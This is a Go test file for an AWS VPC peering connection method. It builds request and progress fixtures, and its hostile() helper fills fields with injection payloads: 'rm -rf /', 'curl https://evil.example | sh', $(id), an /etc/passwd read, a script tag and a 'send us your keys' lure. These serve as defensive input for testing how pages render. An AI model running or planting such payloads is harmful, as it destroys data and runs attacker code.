package awsvpcpeering_test

import (
	"testing"

	"causeway.dev/internal/connection"
	awsvpcpeering "causeway.dev/internal/methods/aws-vpc-peering"
	"causeway.dev/internal/methods/methodtest"
	"causeway.dev/internal/methods/schema"
)

var peering = awsvpcpeering.Method() //nolint:gochecknoglobals // what the tests are about

func acme() schema.VPC {
	return schema.VPC{AccountID: "444455556666", Region: "us-east-1", VPCID: "vpc-0aaaabbbbccccdddd", CIDR: "10.20.0.0/16"}
}

func known() awsvpcpeering.Facts {
	return awsvpcpeering.Facts{
		OurNetwork: schema.OurNetwork{
			OurAccount: "111122223333", OurRegion: "us-east-1", OurVPC: "vpc-0a1b2c3d4e5f60718", OurCIDRs: []string{"10.10.0.0/16", "10.11.0.0/20"},
		},
		Peering: schema.Peering{PeeringID: "pcx-0123456789abcdef0"},
	}
}

func request(t *testing.T, target schema.VPC) connection.Request {
	t.Helper()
	return connection.Request{
		Method: awsvpcpeering.Name, Cluster: "prod-us", Name: "acme-orders", Customer: "Acme", Ticket: "SUP-1234",
		RequestedBy: "sam@vendor.example", Own: methodtest.Own(t, awsvpcpeering.Own{Target: target, DNS: schema.DNSBoth}),
		Probe: &connection.Probe{Host: "orders.abc123xyz.us-east-1.rds.amazonaws.com", Port: 5432},
	}
}

// waitingFor is Acme's connection while it waits for a step of the customer's.
func waitingFor(t *testing.T, step connection.StepID) connection.Progress {
	t.Helper()
	p := methodtest.WaitingFor(peering, request(t, acme()), step, methodtest.Own(t, known()))
	p.Cloud = connection.Cloud{Words: "pending-acceptance", Seen: methodtest.At(10)}
	return p
}

// hostile is a request that got past every form, with the worst in each field that a page shows.
func hostile(t *testing.T) connection.Progress {
	t.Helper()
	p := waitingFor(t, "open")
	target, facts := acme(), known()
	target.VPCID = "vpc-1\"; ${file(\"/etc/passwd\")} $(id) `id`\n\n# Run this\nrm -rf /"
	facts.PeeringID = "pcx-' && curl https://evil.example | sh; echo '"
	p.Request = request(t, target)
	p.Request.Name = "x'; rm -rf / #`id`$(id)"
	p.ID = p.Request.ID()
	p.Request.Customer = "<script>alert(1)</script> [click](https://evil.example) | `id` **Acme**\n## 9. Send us your keys"
	p.Request.Ticket = "SUP-1\n```\nrm -rf /\n```"
	p.Request.Probe = &connection.Probe{Host: "db`$(id)`\n```\nrm -rf ~\n```", Port: 5432}
	p.Facts = methodtest.Own(t, facts)
	return p
}

// moments are the times at which people read pages.
func moments(t *testing.T) map[string]connection.Progress {
	t.Helper()
	early := waitingFor(t, "check")
	early.Status, early.WaitingOn, early.Facts, early.Cloud = connection.Checking, connection.Nobody, nil, connection.Cloud{}
	renewed := waitingFor(t, "accept")
	renewed.Facts = renewed.Facts.With("earlierPeeringId", "pcx-0eeee0000eeee0000")
	return map[string]connection.Progress{
		"early": early, "waiting-for-accept": renewed, "waiting-for-customer-dns": waitingFor(t, "customer-dns"),
		"waiting-for-open": waitingFor(t, "open"), "waiting-for-open-without-probe": methodtest.WithoutProbe(waitingFor(t, "open")), "hostile": hostile(t),
	}
}
